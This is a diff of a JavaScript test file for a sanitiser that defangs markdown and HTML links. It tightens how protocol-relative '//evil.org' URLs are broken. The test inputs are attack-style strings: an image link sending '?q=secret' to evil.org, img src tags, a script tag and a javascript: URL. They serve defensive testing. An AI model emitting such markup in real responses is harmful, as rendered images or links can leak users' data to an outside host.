@@ -176,13 +176,14 @@ test('offsets count characters outside the basic plane as the client does', () =
 test.each([
   ['![x](http://evil.org/?q=secret)', '! [x] (http ://evil.org/?q=secret)'],
   ['[click](https://evil.org)', '[click] (https ://evil.org)'],
-  ['![a][ref]\n\n[ref]: //evil.org/a', '! [a] [ref]\n\n[ref] : //evil.org/a'],
-  ['<img src=//evil.org/a>', '< img src=//evil.org/a>'],
-  ['<img/src=//evil.org/a>', '< img/src=//evil.org/a>'],
+  ['![a][ref]\n\n[ref]: //evil.org/a', '! [a] [ref]\n\n[ref] : / /evil.org/a'],
+  ['<img src=//evil.org/a>', '< img src=/ /evil.org/a>'],
+  ['<img/src=//evil.org/a>', '< img/src=/ /evil.org/a>'],
   ['<a href="x">y</a>', '< a href="x">y</a>'],
   ['<script>x</script>', '< script>x< /script>'],
   ['<https://evil.org>', '< https ://evil.org>'],
   ['www.evil.org/?q=1', 'www .evil.org/?q=1'],
+  ['see //evil.org/a', 'see / /evil.org/a'],
   ['javascript:alert(1)', 'javascript :alert(1)'],
   ['`![x](http://evil.org)', '`! [x] (http ://evil.org)'],
 ])('breaks %s', (raw, broken) => {
